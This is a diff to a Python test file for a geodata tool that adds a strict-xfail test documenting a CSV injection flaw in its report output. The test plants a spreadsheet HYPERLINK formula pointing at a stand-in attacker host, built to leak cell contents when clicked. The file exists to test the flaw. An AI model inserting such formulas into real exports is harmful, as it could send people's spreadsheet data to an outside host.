@@ -8,6 +8,8 @@ and the page must show the payloads as plain text with nothing executed.
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -15,7 +17,7 @@ import pytest
 import kzgeo
 
 from conftest import ROOT
-from hostile import HOSTILE_ID, assert_refused, payload, poison_data, poison_titles, read_table, set_cell, validate, write_table
+from hostile import HOSTILE_ID, assert_refused, cli, payload, poison_data, poison_titles, read_table, set_cell, validate, write_table
 
 
 ALL_POPUPS_JS = """() => {
@@ -164,3 +166,17 @@ def test_markup_in_source_text_is_accepted_as_text(layers_dir):
     write_table(layers_dir / "sources.csv", rows)
     data = kzgeo.read_layers(layers_dir)
     assert data.cited("src-a")[0]["title"] == payload("sources.title").strip()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="report.py writes text cells as they are: a name starting with = or @ becomes a formula when the CSV "
+    "is opened in a spreadsheet (CSV injection); report should neutralise such cells, e.g. prefix them with '",
+)
+def test_report_csv_does_not_carry_spreadsheet_formulas(layers_dir):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    set_cell(layers_dir / "deposits.csv", "upper-kairakty", "name_en", formula)
+    result = cli("report", "--layers", layers_dir, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row if "HYPERLINK" in c]
+    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
